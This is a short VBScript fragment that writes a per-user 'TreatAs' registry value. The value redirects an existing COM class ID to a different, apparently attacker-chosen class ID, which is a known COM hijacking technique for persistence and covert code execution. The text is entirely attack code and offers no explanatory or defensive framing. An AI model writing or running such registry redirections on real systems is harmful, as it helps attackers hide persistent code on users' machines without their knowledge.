Set shell = CreateObject("WScript.Shell")
key = "HKCU\Software\Classes\CLSID\{f3130cdb-aa52-4c3a-ab32-85ffc23af9c1}\"
shell.RegWrite key & "TreatAs", "{00000001-0000-0000-0000-0000feedacdc}"
